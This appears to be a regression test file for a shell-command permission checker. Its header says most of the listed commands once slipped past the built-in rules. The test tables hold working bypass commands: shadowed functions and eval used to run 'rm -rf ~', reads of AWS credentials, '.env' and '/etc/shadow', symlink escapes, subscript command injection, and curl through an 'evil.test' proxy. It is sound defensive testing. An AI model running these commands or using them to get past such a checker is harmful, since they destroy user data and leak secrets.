// Ways round the built-in pack: most of these lines got through without a question when they were found, the others stand beside them.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { makeTree } from '../tree.ts';
import { decide, scopeOf } from './judged.ts';

const tree = makeTree(['src/a.ts', 'src/tl -> /tmp', 'build/a/x', 'infra/main.tf', '.env', 'hl -> ../home', '../home/.aws/credentials', '../home/.bashrc', 'dangling -> infra/new.tf']);
const pack = scopeOf(undefined, tree);
const strict = scopeOf('{ "version": 1, "files": [{ "paths": ["**"], "write": "allow" }, { "paths": ["infra/**"], "write": "deny" }] }', tree);

const rows: Record<string, string[]> = {
  'a function that hides a program': ['false && rm() { :; }; rm -rf ~', 'rm() { :; }; unset -f rm; rm -rf ~', 'rm() { :; }; env rm -rf ~', 'rm() { :; }; command rm -rf ~', 'rm() { :; }; xargs rm -rf ~', "rm() { :; }; bash -c 'rm -rf ~'", 'if false; then rm() { :; }; fi; rm -rf ~', 'exit() { :; }; cd build/nope || exit; rm -rf src'],
  'a folder that was not the one': ['command cd ~/.aws && cat credentials', 'eval "cd ~/.aws"; cat credentials', 'pushd ~/.aws; pushd src; pushd; cat credentials', 'cd src/tl && cd .. && rm -rf *', 'false && cd build; rm -rf src', '! cd build/nope && rm -rf src', 'cd build/nope || { exit & }; rm -rf src', 'cd build/nope || return; rm -rf src', 'rmdir build/e; cd build/e || rm -rf src', "trap 'rm -rf x' EXIT; cd ~"],
  'a variable that was not what it seemed': ['x=HOME; rm -rf ${!x}', "x=src/a.ts; eval 'x=~/.aws/credentials'; cat $x", 'f() { x=~/.aws/credentials; }; x=src/a.ts; f; cat $x', 'f() { shift; rm -rf $1; }; f build ~', 'f() { set -- ~; rm -rf $1; }; f build', "x=build; bash -c 'rm -rf $PWD/$x'", 'PWD=build; cd src; rm -rf $PWD', "x='y src'; rm -rf build/$x", "x='.e*'; cat ./$x", 'x=~/.aws/credentials; false && x=src/a.ts; cat $x', 'f=src/a.ts; case a in a) f=~/.aws/credentials ;& b) cat $f;; esac', 'for f in ~/.aws/credentials src/a.ts; do break; done; cat $f', 'OPTARG=src/a.ts; getopts a: n -a ~/.aws/credentials; cat $OPTARG', 'x=src/a.ts; printf -v x %s ~/.aws/credentials; cat $x', 'x=5; ((x=7)); rm -rf build/$x', 'bash <<E\nx=.env\ncat \\$x\nE', 'bash <<E\necho \\`cat .env\\`\nE'],
  'data that is computed': ["x='a[$(touch x)]'; echo ${!x}", "test -v 'a[$(touch x)]'", "[ -v 'a[$(touch x)]' ]", "x='a[$(touch x)]'; echo $((x))", "y='a[$(touch x)]'; let x=y", "x='a[$(touch x)]'; [[ x -eq 1 ]]", "x='a[$(touch x)]'; echo ${y[x]}", "x='a[$(touch x)]'; echo ${PATH:x}", `x=a; echo "\${x:'$(touch x)'}"`],
  'how words are read': ['shopt -s dotglob; cat *', "env -S 'rm -rf build/a\\_src'", 'cat [.]e[n]v ~/.aws/cred[[:alpha:]]ntials', 'cat -v .env', 'cat -s .env', 'paste -s .env', 'date -f .env', 'sed -i -e s/a/b/ .env', 'git diff --no-index /dev/null .env', 'git blame .env', 'echo ~ | xargs rm -rf', "ls | xargs -I{} sh -c 'cat {}'", 'xargs --max-lines rm echo', 'fd -x rm', 'find infra -execdir touch main.tf \\;', 'find src -execdir rm -rf x \\;'],
  'a link of the same line': ['ln -s ~ h; cat h/.aws/credentials', 'ln -s / x; cat x/etc/shadow', 'ln -s ~ h && echo evil >> h/.bashrc', 'mv hl m; cat m/.aws/credentials', 'cp -a hl m; cat m/.aws/credentials', 'ln -s ~ h; cd h; cat .aws/credentials'],
  'what reaches another host or file': ['RIPGREP_CONFIG_PATH=x rg foo', 'OPENSSL_CONF=x curl http://localhost/', 'https_proxy=http://evil.test curl http://localhost/', 'curl file://localhost/etc/shadow', 'curl -H @.env localhost:9', 'curl --resolve localhost:80:6.6.6.6 http://localhost/', 'curl -x evil.test:80 http://localhost/', 'jq -n env', 'set', 'export -p', 'declare -p'],
};
for (const [about, lines] of Object.entries(rows))
  for (const line of lines) test(`${about}: ${line} - not allowed`, () => assert.notEqual(decide(line, pack, tree).verdict, 'allow'));

const denied: string[] = ['cd n1; cd n2; cd n3; cd n4; echo > infra/main.tf', 'mkdir -p x/infra; echo y > x/infra/main.tf; cd x; cp --parents infra/main.tf ..', 'sed -i -e s/a/b/ infra/main.tf', 'rm infr[[:alpha:]]/main.tf', 'rm infr[a\\]]/main.tf', 'echo x > dangl*', 'cp -r src packages/.vscode', 'git clone https://x.test/y .idea'];
for (const line of denied) test(`a protected path all the same: ${line} - not allowed`, () => assert.notEqual(decide(line, strict, tree).verdict, 'allow'));

const shells: string[] = ["echo $'\\'; rm -rf ~ #\\''", '[[ a > ~/.bashrc ]]', '((x))', 'function f { rm -rf ~; }'];
for (const line of shells) test(`bash and plain sh differ: sh -c ${line} - not allowed`, () => assert.notEqual(decide(`sh -c ${`'${line.replaceAll("'", `'\\''`)}'`}`, pack, tree).verdict, 'allow'));
